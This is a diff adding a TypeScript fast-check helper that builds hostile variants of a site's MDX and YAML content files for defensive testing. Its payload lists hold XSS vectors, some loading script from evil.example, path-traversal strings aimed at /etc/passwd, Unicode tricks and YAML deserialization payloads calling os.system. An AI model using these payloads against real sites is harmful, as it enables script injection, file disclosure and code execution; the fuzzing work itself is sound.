@@ -1,0 +1,275 @@
+/** For tests: real content files, broken and poisoned in every way that somebody has thought of. */
+import { readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import * as fc from 'fast-check'
+import { compare } from './problems'
+
+export interface HostileFile {
+  /** Path under `content/`. */
+  path: string
+  bytes: Uint8Array
+}
+
+/** Every text file of `content/`. */
+function realFiles(root: string): { path: string; text: string }[] {
+  const folder = join(root, 'content')
+  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
+    .filter((path) => /\.(mdx|yaml)$/.test(path))
+    .sort(compare)
+    .map((path) => ({ path, text: readFileSync(join(folder, path), 'utf8') }))
+}
+
+/** Scripts, in every dress that Markdown, MDX and HTML have for them. */
+const scripts = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)" />',
+  '<svg onload="alert(1)"><path d="M0 0" /></svg>',
+  '<iframe srcdoc="<script>alert(1)</script>" />',
+  '<style>@import "//evil.example"</style>',
+  '<base href="//evil.example/" />',
+  '<form action="javascript:alert(1)"><button>go</button></form>',
+  '<a href="javascript:alert(1)">a</a>',
+  '<Callout onClick={() => alert(1)}>Text.</Callout>',
+  '<Callout dangerouslySetInnerHTML={{ __html: "<script>alert(1)</script>" }}>Text.</Callout>',
+  '<Callout {...globalThis}>Text.</Callout>',
+  '<Callout title={process.env.HOME}>Text.</Callout>',
+  '<Callout __proto__={{ polluted: true }}>Text.</Callout>',
+  '<constructor.constructor />',
+  '<__proto__ />',
+  '<Figure src="javascript:alert(1)" alt="a" />',
+  '<CallToAction title="a" button={{ text: "a", link: "javascript:alert(1)" }} />',
+  '<Questions items={[{ question: "</script><script>alert(1)</script>", answer: "b" }]} />',
+  '{alert(1)}',
+  `{\`$\{process.exit(1)}\`}`,
+  '{import("node:fs")}',
+  '{/* a comment */}',
+  'import fs from "node:fs"',
+  'export const a = process.exit(1)',
+  'export default () => null',
+  '[a](javascript:alert(1))',
+  '[a](JaVaScRiPt:alert(1))',
+  '[a](java\tscript:alert(1))',
+  '[a](&#106;avascript:alert(1))',
+  '[a](\u0001javascript:alert(1))',
+  '[a](<javascript:alert(1)>)',
+  '[a](data:text/html;base64,PHNjcmlwdD4=)',
+  '[a](vbscript:x "title")',
+  '[a](//evil.example)',
+  '[a](/\\evil.example)',
+  '[a][b]\n\n[b]: javascript:alert(1)',
+  '<javascript:alert(1)>',
+  '![a](javascript:alert(1))',
+  '![a](https://evil.example/pixel.png)',
+  '[a]: <data:text/html,x>\n\n[a]',
+  'text[^1]\n\n[^1]: [a](javascript:alert(1))',
+  '# <script>alert(1)</script>',
+  '| a | b |\n|---|---|\n| <script>alert(1)</script> | {alert(1)} |',
+  '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
+  '`<script>alert(1)</script>`',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<!-- <script>alert(1)</script> -->',
+  '<![CDATA[ <script>alert(1)</script> ]]>',
+  '</body></html><script>alert(1)</script>',
+]
+
+/** Ways out of the folder. */
+const paths = [
+  '../../../../etc/passwd',
+  './../../package.json',
+  '/etc/passwd',
+  'file:///etc/passwd',
+  './%2e%2e/%2e%2e/secret.png',
+  './..\\..\\secret.png',
+  './a\u0000.png',
+  '../../../../etc/passwd.png',
+  '//evil.example/a.png',
+  '/documents/../../etc/passwd.pdf',
+]
+
+/** Letters that look like others, turn lines around, or are no letters. */
+const tricks = [
+  '\u202E',
+  '\u200B',
+  '\u2066',
+  '\uFEFF',
+  '\u0000',
+  '\u001B[2J',
+  'ａ',
+  'а',
+  'e\u0301',
+  '\u{1F468}\u200D\u{1F469}',
+  '\uFFFF',
+  '\u2028',
+  '\u00A0',
+  'İ',
+  'ß',
+  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤',
+]
+
+/** What YAML can do beside naming fields. */
+const yaml = [
+  'a: &a [x, x, x]\nb: &b [*a, *a, *a]\nc: &c [*b, *b, *b]\nd: [*c, *c, *c]',
+  'a: &a [*a]',
+  '<<: *unknown',
+  'base: &base { title: x }\n<<: *base',
+  '__proto__: { polluted: true }',
+  'constructor: { prototype: { polluted: true } }',
+  'toString: 1',
+  'a: !!js/function "function () { process.exit(1) }"',
+  'a: !!binary R0lGODlhDAAMAIQAAP',
+  'a: !!python/object/apply:os.system ["true"]',
+  '%TAG ! tag:evil.example,2000:',
+  '? [a, b]\n: c',
+  'a: 2001-12-14t21:59:43.10-05:00',
+  'a: 0o17',
+  'a: .nan',
+  'a: 1e400',
+  'a: |9\n  x',
+  'a: >-\n\tx',
+  '---\na: b',
+  '...\na: b',
+  '- a',
+  '"a',
+  '{a: [b, {c: d',
+  '\ta: b',
+]
+
+const repeated = fc.record({
+  what: fc.constantFrom(
+    '> ',
+    '- ',
+    '[',
+    '(',
+    '{',
+    '*',
+    '_',
+    '`',
+    '<Callout>\n\n',
+    '![',
+    '#',
+    '|',
+    '\n',
+    '&amp;',
+    '<',
+    '[^1]',
+    '~',
+    '1. ',
+  ),
+  count: fc.constantFrom(3, 50, 400, 3000),
+})
+
+/** One change of a text, somewhere in it. */
+const change: fc.Arbitrary<(text: string, at: number) => string> = fc.oneof(
+  // Cut off.
+  fc.constant((text: string, at: number) => text.slice(0, at)),
+  fc.constant((text: string, at: number) => text.slice(at)),
+  // Put in, in the middle of a line or on lines of its own.
+  fc.tuple(fc.constantFrom(...scripts, ...tricks, ...paths), fc.boolean()).map(
+    ([words, alone]) =>
+      (text: string, at: number) =>
+        alone ? insertLine(text, at, `\n${words}\n`) : insert(text, at, words),
+  ),
+  fc.constantFrom(...yaml).map((lines) => (text: string) => text.replace('\n', `\n${lines}\n`)),
+  // The value of a field becomes something else.
+  fc
+    .constantFrom(
+      ...scripts,
+      ...paths,
+      ...tricks,
+      ...yaml,
+      '',
+      '[]',
+      '{}',
+      'null',
+      '-1',
+      '[[[[]]]]',
+    )
+    .map((value) => (text: string, at: number) => setValue(text, at, value)),
+  fc
+    .constantFrom(...scripts, ...paths, ...tricks)
+    .map((value) => (text: string, at: number) => setValue(text, at, JSON.stringify(value))),
+  // Far too much of something.
+  repeated.map(
+    ({ what, count }) =>
+      (text: string, at: number) =>
+        insertLine(text, at, `\n${what.repeat(count)}x\n`),
+  ),
+  repeated.map(
+    ({ what, count }) =>
+      (text: string, at: number) =>
+        setValue(text, at, what.trim().repeat(count)),
+  ),
+  // Lines that go missing or stand twice.
+  fc.constant((text: string, at: number) => editLine(text, at, () => [])),
+  fc.constant((text: string, at: number) => editLine(text, at, (line) => [line, line])),
+  fc
+    .integer({ min: 1, max: 9 })
+    .map(
+      (spaces) => (text: string, at: number) =>
+        editLine(text, at, (line) => [' '.repeat(spaces) + line]),
+    ),
+  fc
+    .string({ unit: 'binary', maxLength: 40 })
+    .map((words) => (text: string, at: number) => insert(text, at, words)),
+)
+
+const insert = (text: string, at: number, words: string) =>
+  text.slice(0, at) + words + text.slice(at)
+
+function insertLine(text: string, at: number, lines: string): string {
+  const end = text.indexOf('\n', at)
+  return end === -1 ? text + lines : insert(text, end, lines)
+}
+
+function setValue(text: string, at: number, value: string): string {
+  return editLine(text, at, (line) => [
+    line.replace(/^(\s*(?:- )?[\w-]+: ?).*/, (_all, name) => name + value),
+  ])
+}
+
+function editLine(text: string, at: number, edit: (line: string) => string[]): string {
+  const lines = text.split('\n')
+  const index = text.slice(0, at).split('\n').length - 1
+  return [...lines.slice(0, index), ...edit(lines[index] ?? ''), ...lines.slice(index + 1)].join(
+    '\n',
+  )
+}
+
+/** Bytes that are no text any more. */
+const corruption: fc.Arbitrary<(bytes: Uint8Array) => Uint8Array> = fc.oneof(
+  { weight: 12, arbitrary: fc.constant((bytes: Uint8Array) => bytes) },
+  {
+    weight: 1,
+    arbitrary: fc
+      .tuple(
+        fc.uint8Array({ minLength: 1, maxLength: 60 }),
+        fc.double({ min: 0, max: 1, noNaN: true }),
+      )
+      .map(([noise, share]) => (bytes: Uint8Array) => {
+        const at = Math.floor(share * bytes.length)
+        return Uint8Array.from([...bytes.subarray(0, at), ...noise, ...bytes.subarray(at)])
+      }),
+  },
+  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 400 }).map((noise) => () => noise) },
+)
+
+/** A real file after one to three changes. */
+export function hostileFile(root: string): fc.Arbitrary<HostileFile> {
+  const files = realFiles(root)
+  const place = fc.double({ min: 0, max: 1, noNaN: true })
+  return fc
+    .record({
+      file: fc.constantFrom(...files),
+      changes: fc.array(fc.tuple(change, place), { minLength: 1, maxLength: 3 }),
+      corrupt: corruption,
+    })
+    .map(({ file: { path, text }, changes, corrupt }) => {
+      const changed = changes.reduce(
+        (words, [edit, share]) => edit(words, Math.floor(share * words.length)),
+        text,
+      )
+      return { path, bytes: corrupt(new TextEncoder().encode(changed)) }
+    })
+}
